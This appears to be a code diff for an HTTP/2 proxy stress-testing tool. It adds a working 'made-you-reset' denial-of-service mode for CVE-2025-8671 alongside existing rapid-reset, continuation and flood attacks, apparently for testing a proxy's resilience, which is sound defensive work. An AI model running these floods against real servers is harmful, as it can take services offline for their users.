@@ -17,6 +17,14 @@ client beside it), not the attacker. NAMEs:
                 --streams requests for --path (a large response) per connection
   idle          --conns connections that send the preface (--no-preface:
                 nothing) and then nothing; --tls CERT KEY CA for mTLS
+  made-you-reset
+                never sends RST_STREAM but makes the proxy reset its streams
+                (MadeYouReset, CVE-2025-8671): batches of requests to --path
+                (a slow one), then, once the proxy has sent them upstream, a
+                frame that breaks each stream: DATA past content-length,
+                WINDOW_UPDATE 0, a stream window overflow, trailers with a
+                pseudo-header (in turn, a kind per batch); reconnects after
+                GOAWAY
   continuation  HEADERS then endless CONTINUATION frames
   settings-flood, ping-flood
                 frames that each demand an ACK, never reading the ACKs
@@ -130,6 +138,31 @@ def rapid_reset(args):
         return b"".join(wire.headers(sid, block) + wire.rst(sid) for sid in range(first, first + 2 * per, 2))
 
     reconnecting_flood(args, "rapid-reset", opening(), batch)
+
+
+def made_you_reset(args):
+    per = 100  # the proxy's SETTINGS_MAX_CONCURRENT_STREAMS
+    get = wire.request_block(args.path)
+    post = wire.request_block(args.path, method="POST")
+    kinds = [
+        # (opening block, end_stream, the frame that breaks stream sid)
+        (post + wire.literal(28, "1"), False,  # content-length: 1, then 2 bytes
+         lambda sid: wire.frame(wire.DATA, wire.END_STREAM, sid, b"xx")),
+        (get, True, lambda sid: wire.window_update(sid, 0)),
+        (get, True, lambda sid: wire.window_update(sid, 0x7FFFFFFF)),
+        (post, False, lambda sid: wire.headers(sid, wire.literal(4, "/trailer"))),  # :path in trailers
+    ]
+
+    def batch(i):
+        first = 1 + 2 * per * (i // 2)
+        block, end_stream, breaker = kinds[(i // 2) % len(kinds)]
+        sids = range(first, first + 2 * per, 2)
+        if i % 2 == 0:
+            return b"".join(wire.headers(sid, block, end_stream=end_stream) for sid in sids)
+        time.sleep(0.05)  # the proxy reads them and sends them upstream meanwhile
+        return b"".join(breaker(sid) for sid in sids)
+
+    reconnecting_flood(args, "made-you-reset", opening(), batch)
 
 
 def continuation(args):
@@ -407,7 +440,7 @@ def invalid(args):
 
 
 ATTACKS = {
-    "rapid-reset": rapid_reset, "hold": hold, "zero-window": zero_window, "idle": idle,
+    "rapid-reset": rapid_reset, "made-you-reset": made_you_reset, "hold": hold, "zero-window": zero_window, "idle": idle,
     "continuation": continuation, "settings-flood": settings_flood, "ping-flood": ping_flood,
     "hpack-bomb": hpack_bomb, "slowloris": slowloris, "invalid": invalid, "header-hold": header_hold,
     "busy": busy,
